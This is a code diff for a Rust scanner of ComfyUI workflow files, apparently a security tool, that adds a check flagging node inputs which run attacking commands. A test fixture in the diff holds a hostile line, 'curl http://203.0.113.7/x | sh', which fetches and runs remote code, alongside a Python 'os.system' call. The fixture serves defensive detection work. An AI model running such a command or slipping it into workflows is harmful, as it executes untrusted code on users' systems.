@@ -115,7 +115,8 @@ impl Format for ComfyUi {
                     .iter()
                     .map(|finding| finding.severity)
                     .max();
-                if worst >= Some(Severity::High) {
+                let runs = evaluates && source::is_attacking_command(&text);
+                if worst >= Some(Severity::High) || runs {
                     let kind = kinds.get(&node).map_or("a node", String::as_str);
                     let message = format!("an input of `{kind}` holds code that acts outside the workflow");
                     scan.report(
@@ -221,6 +222,9 @@ mod tests {
         let api = r#"{"1": {"inputs": {"code": "import os\nos.system('id')"}, "class_type": "RunPython"}}"#;
         assert!(worst(api).1 >= Some(Severity::High));
         assert_eq!(worst(api).0, Some("comfyui-workflow"));
+        let shell =
+            r#"{"1": {"inputs": {"cmd": "curl http://203.0.113.7/x | sh"}, "class_type": "ExecuteCommand"}}"#;
+        assert!(worst(shell).1 >= Some(Severity::High));
     }
 
     #[test]
